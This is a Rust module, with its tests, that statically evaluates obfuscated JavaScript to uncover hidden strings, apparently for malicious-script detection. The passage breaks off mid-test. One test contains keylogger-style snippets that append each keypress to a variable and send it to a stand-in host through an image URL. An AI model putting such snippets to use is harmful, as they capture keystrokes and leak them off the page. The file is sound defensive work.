//! Evaluates the expressions of a script that depend on nothing outside of it.
//!
//! Attackers move their words into tables, encoders, closures and packers. Scripts compute all of that from constants, so its
//! values can be found without a browser. The text is read into a [tree], and a [machine] walks it that knows the language and
//! nothing else. The result is a list of places whose value is always the same text. Nothing is guessed: what depends on the
//! outside is unknown and stays as it is written.
//!
//! Work is bounded by steps for a whole script, and what is kept by bytes (`machine/room.rs`); the depth of reading and of walking
//! is bounded, too.
//!
//! | script | places that become known |
//! |---|---|
//! | `var t = ["fet", "ch"]; window[t[0] + t[1]](u)` | `t[0] + t[1]` is `fetch` |
//! | `function d(n) { return String.fromCharCode(n ^ 3) } x = d(107) + d(106)` | `d(107) + d(106)` is `hi` |
//! | `x = navigator.language + "a"` | none: it depends on the outside |
//!
//! Neighbours: `build` calls it before it pushes items, and pushes a known text in place of the items of its place. `fold` does
//! the reductions that need no variables. `lex` gives the tokens.
//!
//! What must not be done here: take a guess for a value. A wrong word in the stream is worse than none, because a signal may
//! rely on it. Nor give the machine anything of a browser, of time or of chance, but the places where a script puts its own texts
//! to take them out again (`machine/hosted.rs`). Nor do work that no step pays for. A loop of
//! the script costs a step for each turn, and a text costs by its length. Otherwise a few bytes of source could keep a core
//! busy.

mod collect;
mod data;
mod machine;
mod parse;
mod pieces;
mod tree;
mod value;

pub(crate) use pieces::in_pieces;

use std::rc::Rc;

use self::collect::known;
use self::machine::Machine;
use self::parse::Names;
use self::value::Text;
use crate::bounds::Bounds;
use crate::lex::Token;
use crate::limits::{self, Limits};
use crate::maps::HashSet;

/// A place whose value is always this text.
#[derive(Clone, Debug)]
pub(crate) struct Known {
    pub(crate) start: u32,
    pub(crate) end: u32,
    pub(crate) text: Rc<str>,
}

/// What is known of a script, and of the texts that it runs as code.
#[derive(Debug, Default)]
pub(crate) struct Interpreted {
    pub(crate) script: Vec<Known>,
    pub(crate) run: Vec<(Rc<str>, Vec<Known>)>,
}

/// Bytes of a stack of its own for reading and walking code, both of bounded depth.
const STACK: usize = 24 * 1024 * 1024;

/// Bytes that suffice in place. Optimised code (`build.rs` asks the compiler's level) took at most 413 KB, for the deepest
/// scripts that some fifty kinds of recursion make. `tests/it/hostile.rs` passes with 600 KB. The threads of most programs have
/// 2 MB. A stack of its own costs a short script a quarter of its time: memory is mapped, protected, touched and given back.
const ENOUGH: usize = if cfg!(small_frames) { 1_250 * 1024 } else { STACK };

/// The number of the script among the texts that are read; those that it runs follow.
const SCRIPT: usize = 0;

/// Whether a text is short enough to be evaluated as a whole.
pub(crate) fn takes(text: &str, limits: &Limits) -> bool {
    // With low limits, the tree of so many symbols would take more memory than they promise.
    text.len() <= limits::INTERPRETED_BYTES
        || text.len() <= limits::INTERPRETED_SYMBOLS.min(limits.evaluation_steps / 6)
            && !text.bytes().any(|byte| byte.is_ascii_alphanumeric())
}

/// Evaluates a script, of which these are the tokens, within a number of steps, which are taken from `steps`. The text is one
/// that is [taken](takes).
pub(crate) fn interpret(
    text: &str,
    tokens: &[Token],
    steps: &mut usize,
    bounds: Option<&Bounds<'_>>,
) -> Interpreted {
    let all = *steps;
    evaluate(text, tokens, steps, all, bounds, false)
}

fn evaluate(
    text: &str,
    tokens: &[Token],
    steps: &mut usize,
    // What it may hold goes by the steps of the whole script: each piece gives back what it held.
    steps_of_all: usize,
    bounds: Option<&Bounds<'_>>,
    is_piece: bool,
) -> Interpreted {
    if *steps == 0 || bounds.is_some_and(Bounds::is_over) || data::holds_only_data(text, tokens) {
        return Interpreted::default();
    }
    stacker::maybe_grow(ENOUGH, STACK, || {
        let mut names = Names::default();
        let code = parse::script(text, SCRIPT, tokens, &mut names, is_piece);
        let mut machine = Machine::new(text, &mut names, *steps, steps_of_all, bounds);
        machine.script(&code);
        let seen = std::mem::take(&mut machine.seen);
        let run = std::mem::take(&mut machine.texts_run);
        *steps = machine.steps_left();
        drop(machine);
        let texts: HashSet<Text> = run.iter().map(|(text, _)| Rc::clone(text)).collect();
        let script = known(&code, &seen, &texts);
        let run = run.iter().map(|(text, code)| (print(text), known(code, &seen, &texts)));
        Interpreted { script, run: run.collect() }
    })
}

fn print(text: &Text) -> Rc<str> {
    String::from_utf16_lossy(text).into()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lex::Lexer;
    use crate::stream::{Kind, decode, normalise};

    fn interpreted(script: &str, steps: &mut usize) -> Interpreted {
        let tokens: Vec<Token> = Lexer::new(script).collect();
        interpret(script, &tokens, steps, None)
    }

    /// The texts that are known, in order.
    fn texts(script: &str) -> Vec<String> {
        let found = interpreted(script, &mut { limits::INTERPRETED_STEPS });
        found.script.iter().map(|known| known.text.to_string()).collect()
    }

    #[test]
    fn what_cannot_throw_needs_no_handler() {
        let rotated = "(function(a,n){var t=a();while(!![]){try{var x=parseInt(d(5))+parseInt(d(6))/2;if(x===n)break;else t.push(t.shift())}\
                       catch(e){t.push(t.shift())}}}(f,13));function d(i){return f()[i-5]}\
                       function f(){var v=['ab','cd','10x','6y'];f=function(){return v};return f()}use(d(7),d(8))";
        assert_eq!(texts(rotated), ["ab", "cd"]);
        assert_eq!(texts("var a='x';try{open(b)}catch(e){a='y'}use(a+'')"), [] as [&str; 0]);
    }

    /// The text of the last place that is known, which is an argument of `use`.
    fn used(script: &str) -> Option<String> {
        let found = interpreted(script, &mut { limits::INTERPRETED_STEPS });
        let at = script.rfind("use(")? + 4;
        found.script.iter().find(|known| known.start as usize == at).map(|known| known.text.to_string())
    }

    /// Expressions and their values as texts, as ECMA-262 has them.
    const VALUES: &[(&str, &str)] = &[
        // Texts.
        ("'abcabc'.endsWith('a',4)", "true"),
        ("'abcabc'.startsWith('b',1)+'a'.startsWith('a',undefined)", "2"),
        ("'abcabc'.lastIndexOf('a',2)+'|'+'abcabc'.lastIndexOf('c',NaN)", "0|5"),
        ("'abcabc'.indexOf('a',-1)+'|'+'abc'.indexOf('a',undefined)", "0|0"),
        ("'a'.codePointAt(9)+''", "undefined"),
        ("'abc'.padStart(5,undefined)", "  abc"),
        ("'\\ufeffa\\u0085'.trim().length+''", "2"),
        ("'ａｂ'.normalize('NFKC')", "ab"),
        ("'abcabc'.replace('b','[$`$&$$]')", "a[ab$]cabc"),
        ("'abcabc'.replace(/b/,\"$'\")", "acabccabc"),
        ("'a,b,c'.split(',',2)+'|'+'abc'.split(/(b)/,2)", "a,b|a,b"),
        ("''.split(/x*/).length+''", "0"),
        ("'abc'.search()+''", "0"),
        ("''.concat.call([1],2)+[].slice.call('abc',1)", "12b,c"),
        // Numbers.
        ("parseInt('+1')+parseInt(' 0x1f')+'|'+parseInt('\\ufeff7')", "32|7"),
        ("parseFloat('1e3x')+'|'+parseFloat('-.5.')+'|'+parseFloat('Infinityx')", "1000|-0.5|Infinity"),
        ("+'0o17'+ +'0B11'+'|'+ +'+Infinity'", "18|Infinity"),
        ("Number.isNaN('x')+'|'+Number.isInteger('1')", "false|false"),
        ("(0.1).toString(36)+'|'+(-1.5).toString(3)", "0.3lllllllllm|-1.111111111111111111111111111111112"),
        ("1/Math.sign(-0)+'|'+Math.min(NaN,1)+'|'+Math.round(0.49999999999999994)", "-Infinity|NaN|0"),
        ("5..toString()+1.5.toFixed", "5function toFixed() { [native code] }"),
        ("~5n+'|'+(1n<2)", "-6|true"),
        (
            "(340282366920938463463374607431768211457n>>8n)%7n+'|'+(0x1ffffffffffffffffffffffffffffffffn&15n)",
            "1|15",
        ),
        // Encodings.
        ("unescape('%+1%u+041%41')", "%+1%u+041A"),
        ("decodeURI('%23%41')", "%23A"),
        // Lists.
        ("[1,2].indexOf(1,1)+'|'+[NaN].indexOf(NaN)", "-1|-1"),
        ("[3,undefined,1].sort()+'|'+[10,9].includes(10,1)", "1,3,|false"),
        ("[1,[2,[3,[4]]]].flat(2).length+'|'+[1,2,3].at(-1.5)", "4|3"),
        ("[1,2,3,4].copyWithin(0,2)+'|'+([10]<[9])", "3,4,3,4|true"),
        ("new Uint8Array([257,-1,1.5])+'|'+new Uint8ClampedArray([300,2.5])", "1,255,1|255,2"),
        ("new Uint16Array([10,9]).sort()+'|'+new Uint8Array('3').length", "9,10|3"),
        ("(a=>{a[0]=300;a[9]=1;return a.length+','+a[0]})(new Uint8Array(1))", "1,44"),
        // Objects.
        ("({valueOf(){return 4}})+1+`${{toString(){return 5}}}`", "55"),
        ("(o=>{o.a=2;return o.a})({get a(){return 1}})+''", "1"),
        ("Object.keys(Object.defineProperty({a:1},'b',{value:2}))+''", "a"),
        ("({__proto__:{a:'b'}}).a", "b"),
        ("(o=>{delete o.a;o.a=1;return Object.keys(o)})({a:1,b:2})+''", "b,a"),
        ("(({a,...r})=>Object.keys(r))({a:1,b:2})+''", "b"),
        ("(s=>{s.delete(1);return s.size})(new Set([1,2]))+''", "1"),
        (
            "(f=>{String.prototype.rev=f;return 'ab'.rev()})(function(){return this.split('').reverse().join('')})",
            "ba",
        ),
        // Order and scopes.
        ("((t,i)=>{t[i++]+='c';return t+i})(['a','b'],0)", "ac,b1"),
        ("(s=>{function f(){s+='b';return 'c'}s+=f();return s})('a')", "ac"),
        ("(f=>{for(let i=0;i<3;i++)f.push(()=>i);return f.map(g=>g())})([])+''", "0,1,2"),
        ("(i=>{for(let i=0;i<2;i++);return i})('a')", "a"),
        ("(()=>{function f(){return 'a'}{function f(){return 'b'}}return f()})()", "b"),
        ("(()=>{'use strict';function f(){return 'a'}{function f(){return 'b'}}return f()})()", "a"),
        ("(function(undefined){return undefined})('a')", "a"),
        ("(function f(){f=1;return typeof f})()", "function"),
        ("(a=>{a.forEach((x,i)=>{a[i+1]=x+'!'});return a})(['a','b'])+''", "a,a!,a!!"),
        // Errors.
        ("(()=>{try{throw new TypeError('a')}catch(e){return e.name+e.message}})()", "TypeErrora"),
        ("(()=>{try{throw Error()}catch(e){return e.message+'|'+e.constructor.name}})()", "|Error"),
        // Symbols.
        ("Symbol('a').description+Symbol.keyFor(Symbol.for('b'))+Symbol.keyFor(Symbol('c'))", "abundefined"),
        (
            "(typeof Symbol())+(Symbol.for('a')===Symbol.for('a'))+(Symbol('a')===Symbol('a'))",
            "symboltruefalse",
        ),
        ("`${{[Symbol.toPrimitive]:h=>h}}`+ +{[Symbol.toPrimitive]:h=>h.length}", "string6"),
        // Points of time.
        ("new Date(104007).getTime()+'|'+new Date(1007).getMilliseconds()+'|'+(new Date(9)-2)", "104007|7|7"),
        ("new Date(951782400000).getUTCMonth()+'|'+new Date(-1).getUTCDay()", "1|3"),
        // Whole numbers in a base.
        ("BigInt('809871').toString(36)+(-255n).toString(16)+0n.toString()", "hcwf-ff0"),
        (
            "(1n<<40n).toString(2).length+'|'+(0x1ffffffffffffffffffffffffffffffffffn).toString(16)",
            "41|1ffffffffffffffffffffffffffffffffff",
        ),
        // Bytes.
        ("String.fromCharCode(...new Uint8Array(new Uint32Array([1717924456]).buffer))", "href"),
        (
            "(v=>{v.setUint16(0,26722);v.setInt8(2,-1);return v.getUint8(0)+','+v.getUint16(0,true)+','+v.getUint8(2)})(new DataView(new ArrayBuffer(4)))",
            "104,25192,255",
        ),
        ("new TextDecoder('utf-16le').decode(new Uint8Array([104,0,105,0]))", "hi"),
        ("new TextDecoder('latin1').decode(new Uint8Array([104,233]))", "hé"),
        ("new TextDecoder().decode(new DataView(new Uint8Array([104,105]).buffer))", "hi"),
        // Texts of objects.
        ("JSON.parse('[\"ba\",[\"dc\"]]',(k,v)=>typeof v==='string'?v[1]+v[0]:v)+''", "ab,cd"),
        (
            "(a=>{let b=structuredClone(a);a.c[0]='x';return b.c[0]+b.m.get(1)})({c:['a'],m:new Map([[1,'b']])})",
            "ab",
        ),
        ("(k=>new WeakMap([[k,'a']]).get(k)+new WeakMap([[{},'b']]).get(k))({})", "aundefined"),
        ("new Proxy(()=>'a',{apply:(f,t,[x])=>f()+x})('b')+new Proxy(x=>x,{})('c')", "abc"),
        ("new (new Proxy(class{},{construct:(c,[x])=>({v:x})}))('a').v", "a"),
        ("new URLSearchParams('?a=b+c&d=%68&a=x').get('a')+new URLSearchParams({e:1}).get('e')", "b c1"),
        ("(u=>u.hash+u.pathname+u.searchParams.get('q'))(new URL('https://a.example/b?q=c#d'))", "#d/bc"),
        ("new DOMParser().parseFromString('<p>&#104;&amp;</p>','text/html').body.textContent", "h&"),
        ("[['a','b']].sort((x,y)=>x[0]-y[0]).map(x=>x[1]).join('')+['c'].reduce((x,y)=>x+y)", "bc"),
        ("['a','b','c'].toReversed().with(0,'d').toSpliced(1,1)+[3,1,2].toSorted((a,b)=>b-a)", "d,a3,2,1"),
        ("[[1,'a'],[1,'b'],[2,'c']].findLast(x=>x[0]===1)[1]+[1,2].findLastIndex(x=>x>5)", "b-1"),
        ("(o=>{o.__defineGetter__('k',()=>'a');return o.k})({})", "a"),
        ("Object.getOwnPropertyNames({a:1,b:2})+Math.clz32(1)+Math.fround(0.5)", "a,b310.5"),
        ("(()=>{try{throw Error('x',{cause:'a'})}catch(e){return e.cause}})()", "a"),
        (
            "JSON.parse(JSON.stringify({a:['b\\n\"',1.5,null,{}]})).a.map(x=>x===null?'n':x).join('|')+''",
            "b\n\"|1.5|n|[object Object]",
        ),
        // Classes.
        (
            "new (class extends class{constructor(a){this.t=a}g(){return this.t}}{constructor(){super('a')}g(){return super.g()+'b'}})().g()",
            "ab",
        ),
        ("(A=>new (class extends A{u='b'})('a'))(class{s='c';constructor(a){this.t=a}}).t", "a"),
        ("(class extends class{static g(){return 'a'}}{static g(){return super.g()+'b'}}).g()", "ab"),
        (
            "(A=>(new A instanceof A)+'|'+({} instanceof A)+'|'+(new (class extends A{}) instanceof A))(class{})",
            "true|false|true",
        ),
        (
            "(f=>{Object.defineProperty(f.prototype,'g',{value:()=>'a',writable:true});\
             Object.defineProperty(f,'prototype',{writable:false});return new f().g()})(function(){})",
            "a",
        ),
        // Functions of texts.
        ("Function('a','b','return a+b')('c','d')", "cd"),
    ];

    #[test]
    fn what_the_browser_hands_to_a_function_is_known() {
        for script in [
            "setTimeout(function(t){use(t[0]+'')},9,['ab'])",
            "window['setTimeout'](t=>{use(t[0]+'')},9,['ab'])",
            "addEventListener('x',e=>{use(e.detail[0]+'')});dispatchEvent(new CustomEvent('x',{detail:['ab']}))",
            "var s='';addEventListener('x',e=>{s+=e.detail});for(var c of 'ab')dispatchEvent(new CustomEvent('x',{detail:c}));use(s+'')",
            "addEventListener('message',e=>{use(e.data.k+'')});postMessage({k:'ab'},'*')",
            "Promise.resolve(['ab']).then(t=>t[0]).then(t=>{use(t+'')})",
            "Promise.all([Promise.resolve('a'),'b']).then(([a,b])=>{use(a+b)})",
            "(async()=>{var t=await Promise.resolve(['ab']);use(t[0]+'')})()",
            "new Promise(r=>{r(['ab'])}).then(t=>{use(t[0]+'')})",
            "Promise.resolve(1).then(i=>{use(t[i]+'')});var t=['','ab'];",
            "window.onmessage=e=>{use(e.data+'')};window.postMessage('ab','*')",
        ] {
            assert_eq!(used(script).as_deref(), Some("ab"), "{script}");
        }
        // Somebody else may call it as well.
        let again = "function f(t){use(t+'')}setTimeout(f,9,'ab');g(f);f(u)";
        assert_eq!(used(again), None);
    }

    #[test]
    fn a_text_that_was_put_into_the_page_is_known() {
        for (put, read) in [
            ("var d=document.createElement('i');d.dataset.k='ab';", "d.dataset.k"),
            ("var d=document.createElement('i');d.setAttribute('data-a-k','ab');", "d.dataset.aK"),
            ("var d=document.createElement('i');d.setAttribute('Title','ab');", "d.getAttribute('title')"),
            ("var c=document['createComment']('ab');", "c.data"),
            ("localStorage.setItem('k','ab');", "localStorage.getItem('k')"),
            ("window.sessionStorage.k='ab';", "sessionStorage['k']"),
        ] {
            assert_eq!(used(&format!("{put}use({read}+'')")).as_deref(), Some("ab"), "{put}");
            // In doubt it is not.
            let (made, put) =
                put.split_at(put.find(';').filter(|_| put.starts_with("var d")).map_or(0, |at| at + 1));
            if !put.starts_with("var") {
                assert_eq!(used(&format!("{made}if(u){{{put}}}use({read}+'')")), None, "{put}");
                assert_eq!(used(&format!("{made}function f(){{{put}}}use({read}+'')")), None, "{put}");
            }
        }
        for unknown in [
            "var a=document.createElement('a');a.href='/x';use(a.href+'')",
            "var i=document.createElement('input');i.value='x';use(i.value+'')",
            "localStorage.k='a';localStorage[u]='b';use(localStorage.k+'')",
            "localStorage.k='a';addEventListener('x',()=>{localStorage.k='b'});onload=()=>use(localStorage.k+'')",
            "var p=new URLSearchParams('a=b');p.append(u,'c');use(p+'')",
        ] {
            assert_eq!(used(unknown), None, "{unknown}");
        }
    }

    #[test]
    fn values_are_those_of_the_language() {
        let failed: Vec<_> = VALUES
            .iter()
            .filter_map(|(expression, want)| {
                let found = used(&format!("var r={expression};use(r+'')"));
                (found.as_deref() != Some(*want)).then(|| format!("{expression}: {found:?}"))
            })
            .collect();
        assert!(failed.is_empty(), "{}", failed.join("\n"));
    }

    #[test]
    fn what_throws_leaves_the_rest_to_the_handler() {
        for throws in [
            "null.x",
            "undefined[0]=1",
            "(void 0)()",
            "({}).f()",
            "decodeURIComponent('%')",
            "atob('*')",
            "btoa('\\u0100')",
            "'a'.repeat(-1)",
            "new Array(-1)",
            "1n+1",
            "[...5]",
            "var {a}=null",
            "'a' in 'b'",
            "[].reduce((a,b)=>a)",
            "JSON.parse('{')",
            "(function(){throw 1})()",
            "[1].map(()=>{throw 1})",
            "eval('throw 1')",
            "new (()=>1)",
        ] {
            let script = format!("var s='a';try{{{throws};s='b'}}catch(e){{s+='c'}}use(s+'')");
            assert_eq!(used(&script).as_deref(), Some("ac"), "{throws}");
        }
        let finally = "var s='';function f(){try{return 'r'}finally{s+='f'}}var r=f();use(s+r)";
        assert_eq!(used(finally).as_deref(), Some("fr"));
    }

    #[test]
    fn what_is_not_sure_is_unknown() {
        for source in [
            "use(t+'');let t='a'",
            "function*g(){s+='a';yield 1;s+='b'}var s='';for(x of g())s+=x;use(s+'')",
            "var s='a';async function f(){await 0;s='b'}f();use(s+'')",
            "function f(a){a='b';return arguments[0]}use(f('a')+'')",
            "var a=new Uint8Array([1,2]),b=a.subarray(1);b[0]=9;use(a+'')",
            "use(Array(3).map((x,i)=>i).join('a'))",
            "use((1.1**33)+'')",
        ] {
            assert_eq!(used(source), None, "{source}");
        }
    }

    /// Places for an expression; `D(n)` is a text that the script computes.
    const PLACES: &[&str] = &[
        "async function f(){const r=await fetch(D(7));return r.json(D(8))}",
        "(async()=>{try{const r=await g(D(7));x=r}catch(e){log(D(8))}finally{log(D(9))}})()",
        "new Promise(function(res,rej){setTimeout(()=>{log(D(7));res({a:D(8)})},9)})",
        "new Promise(res=>setTimeout(()=>{log(D(7));res({a:D(8)})},9)).then(r=>log(D(9)))",
        "class A extends B{constructor(){super();this.a=D(7)}m(){return D(8)}static s(){g(D(9))}get k(){return D(10)}}",
        "class A{async m(x){await g(D(7));for await(const y of x){g(D(8))}}*n(){yield D(9)}}",
        "const o={m(){g(D(7))},async n(){g(D(8))},get k(){return D(9)},set k(v){g(D(10))},[D(11)]:1,f:function(){g(D(12))},h:()=>D(13)}",
        "$(function(){$(D(7)).on(D(8),function(e){e.preventDefault();$.ajax({url:D(9),data:{a:D(10)},success:function(){location=D(11)}})})})",
        "switch(x){case D(7):g(D(8));break;case 2:g(D(9));default:g(D(10))}",
        "for(const x of y){g(D(7));if(x===D(8))continue;break}",
        "for(let i=0;i<n;i++){g(D(7)+i)}",
        "while(x()){g(D(7))}do{g(D(8))}while(y!==D(9))",
        "function f(a=D(7),{b=D(8)}={}){g(a,D(9))}",
        "const {a=D(7)}=x;const [b=D(8)]=y;g(a,b)",
        "if(!x)return;g(D(7))",
        "function f(){if(!x)return D(7);g(D(8));throw new Error(D(9))}",
        "function f(){return g(D(7)),h(D(8))}",
        "x?.y?.[D(7)]?.(D(8));a??D(9);b||=D(10)",
        "g(`a${D(7)}b${z}`);t`a${D(8)}`",
        "delete x[D(7)];typeof x===D(8);D(9) in x;x instanceof y[D(10)]",
        "export default {name:D(7),data(){return{a:D(8)}},methods:{m(){g(D(9))}},mounted(){g(D(10))}}",
        "import x from \"y\";export const a=D(7);export function f(){g(D(8))}",
        "var M=function(a){this.a=D(7)};M.prototype.go=function(){g(D(8));this.b=D(9)};M.prototype={h:function(){g(D(10))}}",
        "(function(w){\"use strict\";var M=function(k){this.k=k;this.s=D(7)};M.prototype._e=function(){this.z=D(8);w.addEventListener(D(9),function(){g(D(10))}.bind(this))};w.M=M})(window)",
        "(function(w){var M=function(k){if(this.s===D(7)){this.t=D(8)}};w.M=M})(window)",
        ";(function(){async function c(){try{const r=await fetch(D(7),{method:D(8)});if(r.ok){const d=await r.json();console.log(D(9),d);return true}}catch(e){console.log(D(10))}return false}document.addEventListener(D(11),c)})()",
        "function f(){for(;;){g(D(7));if(h())break}g(D(8))}",
        "try{g()}catch(e){h(D(7))}",
        "try{JSON.parse(x)}catch{h(D(7))}finally{k(D(8))}",
        "a:for(var i in o){if(o[i]===D(7))continue a;g(D(8))}",
        "var f=function n(){setTimeout(n,9);g(D(7))};f()",
        "setInterval(()=>{debugger;g(D(7))},9)",
        "x.forEach(a=>{if(a.b===D(7)){g(D(8))}else if(a.b===D(9)){g(D(10))}})",
        "[1,2].forEach(a=>g(D(7)))",
        "[\"a\",\"b\"].map(s=>g(D(7)+s))",
        "Object.keys(o).filter(k=>k!==D(7)).reduce((a,k)=>a+D(8)+k,D(9))",
        "const r=await fetch(D(7));const j=await r.json();g(D(8))",
        "(async()=>{const{a}=await import(D(7));a(D(8))})()",
        "document.querySelectorAll(D(7)).forEach(t=>{t.addEventListener(D(8),async e=>{e.target.value=D(9);let id=D(10);if(l.includes(D(11)))id=D(12);g(id)})})",
        "let q=D(7);const c=D(8)+q+D(9);s(c);q=D(10);s(q)",
        "var h={\"Content-Type\":D(7),[D(8)]:D(9)};f(D(10),{headers:h,body:JSON.stringify({a:D(11),b:x})})",
        "if(a)b(D(7));else if(c)d(D(8));else e(D(9))",
        "return f(D(7))?D(8):D(9)",
        "window[D(7)]=window[D(8)]||{};window[D(9)][D(10)](D(11))",
        "var a=[D(7),D(8)];for(var i=0;i<a.length;i++)g(a[i])",
        "eval(D(7));new Function(D(8))();setTimeout(D(9),1)",
        // What a known condition passes by.
        "var n=0;setInterval(function(){if(n++>5)location=D(7);else g(D(8))},9)",
        "let on=false;function tick(){if(!on)return;g(D(7));if(x)h(D(8))}tick()",
        "const k=null;k&&g(D(7));const m=1||g(D(8));const q=k?g(D(9)):g(D(10))",
        "var list=[];list.forEach(a=>g(D(7)));for(const a of list)g(D(8));for(var i=0;i<list.length;i++)g(D(9))",
        "switch(3){case 1:g(D(7));break;case 3:g(D(8));break;default:g(D(9))}",
        "{let open=false;if(open){g(D(7));if(!open){h(D(8))}else g(D(9))}}",
        "(function(){if(typeof t===\"object\")return;{g(D(7))}g(D(8))})()",
        "while(false){g(D(7))}",
    ];

    #[test]
    fn a_computed_text_is_known_wherever_an_expression_may_stand() {
        let texts: Vec<String> = (7..20).map(|number| format!("'text {number}'")).collect();
        let decoder = format!("var t=[{}];function D(i){{return t[i-7]}}\n", texts.join(","));
        for place in PLACES {
            let script = decoder.clone() + place;
            let found = interpreted(&script, &mut { limits::INTERPRETED_STEPS });
            for number in 7..20 {
                let call = format!("D({number})");
                let Some(at) = script.find(&call) else { break };
                let text = format!("text {number}");
                let is_known = found.script.iter().any(|known| {
                    (known.start as usize) <= at && at < known.end as usize && known.text.contains(&*text)
                });
                assert!(is_known, "{call} in {place}");
            }
        }
    }

    #[test]
    fn what_another_function_changes_is_no_constant() {
        let late = "onkeypress=function(e){k+=e.key};";
        for early in
            ["function send(){img.src='//c.example/?k='+k}", "var send=function(){put('//c.example/?k='+k)};"]
        {
            assert_eq!(texts(&format!("var k='';{early}{late}")), [] as [&str; 0], "{early}");
            // Both in a function that nobody calls, either.
            assert_eq!(
                texts(&format!("function all(){{var k='';{early}{late}}}")),
                [] as [&str; 0],
                "{early}"
            );
        }
        assert_eq!(texts("var k='a';function f(){use(k+'b')}function g(){k='a'}"), ["ab"]);
    }

    #[test]
    fn what_is_put_elsewhere_is_put_however_often() {
        let puts: String = (0..90).rev().map(|at| format!("put({at},'p{at}.');")).collect();
        let whole: String = (0..90).map(|at| format!("p{at}.")).collect();
        for (put, read) in [
            ("var all=[];function put(at,part){all[at]=part}", "use(all.join(''))"),
            (
                "var all={};var put=(at,part)=>{all['k'+at]=part};var s='';",
                "for(var i=0;i<90;i++)s+=all['k'+i];use(s+'')",
            ),
        ] {
            let found = texts(&format!("{put}{puts}{read}"));
            assert!(found.iter().any(|text| text.starts_with(&whole)), "{put} {found:?}");
        }
        let added = puts.replace("put(", "add(");
        let backwards: String = (0..90).rev().map(|at| format!("p{at}.")).collect();
        for add in ["var s='';function add(at,part){s+=part}", "var s=[];function add(at,part){s.push(part)}"]
        {
            let read = if add.contains("push") { "use(s.join(''))" } else { "use(s+'')" };
            let found = texts(&format!("{add}{added}{read}"));
            assert!(found.iter().any(|text| text.starts_with(&backwards)), "{add} {found:?}");
        }
    }

    #[test]
    fn a_loop_that_may_end_early_leaves_nothing_sure() {
        for early in ["for(x of [1,2]){if(u)break;s+='a'}", "for(x of [1,2]){if(u)continue;s+='a'}"] {
            assert_eq!(texts(&format!("var s='';{early}use(s+'!')")), [] as [&str; 0], "{early}");
        }
        // As far as the label says.
        for (inner, known) in [("break", true), ("break a", false)] {
            let script = format!(
                "var s='',t='';a:for(i of [1,2]){{for(;;){{if(u){inner};t+='b';break}}s+='a'}}use(s+'!')"
            );
            assert_eq!(texts(&script).contains(&"aa!".to_owned()), known, "{inner}");
        }
    }

    #[test]
    fn numbers_that_are_too_large_are_unknown() {
        let most = i128::MAX;
        for over in [
            "n++;use(n+'!')",
            "use(-(-n-1n)+'!')",
            "use(n+1n+'!')",
            "use(n*n+'!')",
            "use((1n<<126n<<9n)+'!')",
        ] {
            assert_eq!(texts(&format!("var n={most}n;{over}")), [] as [&str; 0], "{over}");
        }
    }

    #[test]
    fn this_does_nothing_by_itself() {
        assert_eq!(texts("function g(i){return ['ab','cd'][i]}function h(){use(g.apply(this,[1]))}"), ["cd"]);
    }

    #[test]
    fn a_decoder_that_is_called_by_the_hundred_is_found_out() {
        // RC4 in the script's own words, over base64 with small letters first.
        let decoder = "function r(s,k){var z='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=',o='',b=0,n=0;\
            for(var i=0;i<s.length;i++){var c=z.indexOf(s.charAt(i));if(c<0||c==64)continue;b=b<<6|c;n+=6;\
            if(n>=8){n-=8;o+=String.fromCharCode(b>>n&255)}}var t=[],j=0,x,y='';for(i=0;i<256;i++)t[i]=i;\
            for(i=0;i<256;i++){j=(j+t[i]+k.charCodeAt(i%k.length))%256;x=t[i];t[i]=t[j];t[j]=x}i=0;j=0;\
            for(var q=0;q<o.length;q++){i=(i+1)%256;j=(j+t[i])%256;x=t[i];t[i]=t[j];t[j]=x;\
            y+=String.fromCharCode(o.charCodeAt(q)^t[(t[i]+t[j])%256])}return y}";
        let calls: String = (0..200).map(|at| format!("use(r('lTYjQW','k{at}'));")).collect();
        let mut steps = limits::INTERPRETED_STEPS;
        let found = interpreted(&format!("{decoder}{calls}"), &mut steps);
        assert!(found.script.len() >= 200);
        let bytes = decode::base64("lTYjQW", decode::Alphabet::SmallFirst).unwrap();
        let (last, coded) = (found.script.last().unwrap(), decode::bytes_to_text(bytes));
        assert_eq!(*last.text, decode::rc4(&coded, "k199"));
        assert!(limits::INTERPRETED_STEPS - steps < 100_000, "steps left: {steps}");
    }

    #[test]
    fn what_tells_nothing_costs_little() {
        let loops = "function wait(u){for(;;){if(u())return;u(1)}}wait(go);";
        // Each of them calls all others, whatever it is given.
        let others: String = (0..12).map(|at| format!("f{at}(u,{at});f{at}(u.v);")).collect();
        let matches: String =
            (0..12).map(|at| format!("function f{at}(u,k){{if(u.w(k)){{{others}}}return u.x}}")).collect();
        for (name, script, most) in
            [("a loop that may return", loops, 1_000), ("calls in a circle", &matches, 400_000)]
        {
            let mut steps = limits::INTERPRETED_STEPS;
            interpreted(script, &mut steps);
            assert!(limits::INTERPRETED_STEPS - steps < most, "{name}: {steps} left");
        }
    }

    #[test]
    fn calls_that_tell_nothing_hide_no_other() {
        let decoder = "function d(s,u){if(u)u(1);if(s)return s.split('').reverse().join('')}";
        for before in ["d(u);", "d(u,1);d(u);", "d(u,u);d(1,u);"] {
            let script = format!("{decoder}{}x=d('eikooc');y=d('dnes',u);z=y+'!'", before.repeat(9));
            let found = interpreted(&script, &mut limits::INTERPRETED_STEPS.clone());
            let texts: Vec<&str> = found.script.iter().map(|known| &*known.text).collect();
            assert!(texts.contains(&"cookie") && texts.contains(&"send!"), "{before}: {texts:?}");
        }
    }

    #[test]
    fn functions_are_printed_as_they_are_written() {
        assert_eq!(
            texts("var é=1;function f(a){return a /* b */}use(f+'')"),
            ["function f(a){return a /* b */}"]
        );
        assert_eq!(texts("use(((a)=>{return function(){}})()+'')"), ["function(){}"]);
        // A text that is run is a text of its own.
        let script = r#"eval("var é=2;use(function(b){}+'')");eval("use(function(c){}+'')")"#;
        let found = interpreted(script, &mut { limits::INTERPRETED_STEPS });
        let run: Vec<&str> =
            found.run.iter().flat_map(|(_, known)| known).map(|known| &*known.text).collect();
        assert_eq!(run, ["function(b){}", "function(c){}"]);
    }

    #[test]
    fn codes_that_only_return_hide_nothing() {
        let found = texts("use(Function('return escape')()('a')+'b');x(eval('open(y)')+'c')");
        assert!(!found.iter().any(|text| text.ends_with('c') && text.len() > 1), "{found:?}");
    }

    #[test]
    fn symbols_alone_are_read() {
        let number = |number: usize| match number {
            0 => "+[]".to_owned(),
            10 => "+!+[]+[+[]]".to_owned(),
